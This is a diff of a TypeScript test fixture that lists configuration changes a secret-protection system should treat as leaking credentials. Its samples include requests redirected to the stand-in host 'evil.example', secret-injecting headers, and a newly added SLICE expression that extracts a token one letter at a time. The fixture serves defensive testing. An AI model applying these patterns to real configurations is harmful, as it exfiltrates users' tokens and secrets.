@@ -21,6 +21,9 @@ interface Sample {
   free: object[];
 }
 
+/** With SECRET_EQUAL in a story it tells a token letter by letter. */
+const LETTER = { http_request_location_of_token: '=SLICE(response.body.value, 0, 1)' };
+
 const SAMPLES: Record<string, Sample> = {
   TEXT: { secrets: { value: 'x' }, others: {}, moves: [], free: [{ description: 'y' }] },
   JWT: {
@@ -35,13 +38,18 @@ const SAMPLES: Record<string, Sample> = {
     moves: [
       { http_request_options: { ...options, url: 'https://evil.example' } },
       { http_request_options: { ...options, headers: { a: '<<secret>>' } } },
+      LETTER,
     ],
-    free: [{ http_request_options: options }, { http_request_ttl: 60 }],
+    free: [
+      { http_request_options: options },
+      { http_request_ttl: 60 },
+      { http_request_location_of_token: '=response.body.value' },
+    ],
   },
   MULTI_REQUEST: {
     secrets: { credential_requests: [{ options, http_request_secret: 'x' }] },
     others: { http_request_location_of_token: '=response.body.value' },
-    moves: [],
+    moves: [LETTER],
     free: [{ http_request_ttl: 60 }],
   },
   OAUTH: {
